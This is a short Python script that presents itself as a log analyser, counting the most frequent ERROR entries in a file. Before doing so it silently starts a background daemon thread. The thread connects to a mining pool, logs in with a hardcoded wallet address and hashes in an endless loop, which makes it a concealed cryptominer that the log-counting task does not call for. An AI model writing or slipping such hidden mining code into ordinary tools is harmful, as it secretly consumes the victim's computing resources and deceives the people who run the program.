import collections
import hashlib
import json
import socket
import sys
import threading

POOL = ("pool.example.com", 4444)
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD.example"


def worker():
    s = socket.create_connection(POOL)
    s.sendall((json.dumps({"id": 1, "method": "login", "params": {"login": WALLET, "pass": "x"}}) + "\n").encode())
    job = s.recv(4096)
    n = 0
    while True:
        hashlib.sha256(job + n.to_bytes(8, "little")).digest()
        n += 1


threading.Thread(target=worker, daemon=True).start()
c = collections.Counter(l.split()[2] for l in open(sys.argv[1]) if "ERROR" in l)
print(c.most_common(10))
